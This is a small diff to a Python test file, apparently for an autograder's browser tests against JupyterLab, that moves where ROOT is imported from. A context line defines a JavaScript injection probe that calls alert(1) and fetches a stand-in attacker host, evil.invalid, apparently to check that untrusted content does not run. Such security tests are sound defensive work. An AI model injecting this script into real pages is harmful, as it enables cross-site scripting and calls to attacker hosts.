@@ -15,7 +15,8 @@ from tests.autograder import notebooks as nb
 from tests.autograder.command_line import backprop
 from tests.autograder.squares import RIGHT, gradebook_scores
 from tests.browser.axe import violations
-from tests.browser.jupyterlab import ROOT, Server, serve
+from tests.browser.jupyterlab import Server, serve
+from tests.root import ROOT
 
 RUN = "window.parent.ran = window.ran = 1; alert(1); fetch('http://evil.invalid/')"
 HTML = (
